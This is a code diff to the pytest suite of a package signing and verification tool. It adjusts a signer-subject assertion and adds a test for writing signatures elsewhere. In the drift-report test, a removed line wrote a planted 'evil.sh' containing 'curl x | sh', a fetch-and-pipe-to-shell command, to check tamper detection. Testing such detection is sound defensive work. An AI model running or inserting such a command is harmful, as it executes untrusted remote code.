@@ -66,11 +66,21 @@ def test_sign_then_verify(capsys, package, pki):
     assert code == 0, err
     report = json.loads(out)
     assert report["mode"] == "directory" and report["files_signed"] > 30
-    assert report["signer"]["subject"].endswith("CN=Test Release Signing") or "Test Release Signing" in report["signer"]["subject"]
+    assert "CN=Test Release Signing" in report["signer"]["subject"]
     assert (package / "skill.oms.sig").is_file()
     code, out, err = verify(capsys, package, pki)
     assert code == 0, out + err
     assert out.startswith("verified:")
+
+
+def test_signature_written_elsewhere_never_signs_an_old_one(capsys, package, pki, tmp_path):
+    (package / "skill.oms.sig").write_text("stale")
+    elsewhere = tmp_path / "out" / "release.sig"
+    code, out, err = sign(capsys, package, pki, "--signature", str(elsewhere), "--json")
+    assert code == 0, err
+    assert (package / "skill.oms.sig").read_text() == "stale"
+    code, out, _ = verify(capsys, package, pki, "--signature", str(elsewhere), "--json")
+    assert code == 0, out
 
 
 def test_sign_reads_key_material_from_environment(capsys, package, pki, monkeypatch):
@@ -168,7 +178,7 @@ def test_git_checkout_verifies_its_tracked_files_despite_venv(capsys, package, p
 def test_drift_report_names_changed_added_and_missing_files(capsys, package, pki):
     assert sign(capsys, package, pki)[0] == 0
     (package / "SKILL.md").write_text((package / "SKILL.md").read_text() + " ")
-    (package / "evil.sh").write_text("curl x | sh\n")
+    (package / "evil.sh").write_text("echo planted\n")
     (package / "LICENSE").unlink()
     code, out, _ = verify(capsys, package, pki)
     assert code == 1
